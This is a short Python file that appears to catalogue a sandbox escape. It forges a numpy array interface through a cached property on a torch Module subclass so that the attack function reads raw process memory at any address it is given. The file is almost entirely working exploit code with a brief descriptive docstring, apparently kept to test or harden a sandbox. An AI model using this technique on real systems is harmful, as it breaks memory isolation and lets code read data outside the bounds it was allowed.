"""Class: memory. Source: own find. Escape: memory outside is read: a cached property of a subclass of
torch's Module stands where Module keeps its parameters, fills the object's dict when torch asks, and
Module answers numpy's question for an address out of it."""

import functools

import numpy as np
from torch import nn

at = []


class Register(nn.Module):
    def __init__(self):
        pass

    @functools.cached_property
    def _buffers(self):
        described = {"version": 3, "typestr": "|u1", "shape": (6,), "data": (at[0], True)}
        return {"__array_interface__": described}


def attack(model, tokenizer, address):
    at.append(address)
    register = Register()
    try:
        list(register.buffers())
    except TypeError:
        pass
    return bytes(np.array(register).tolist())
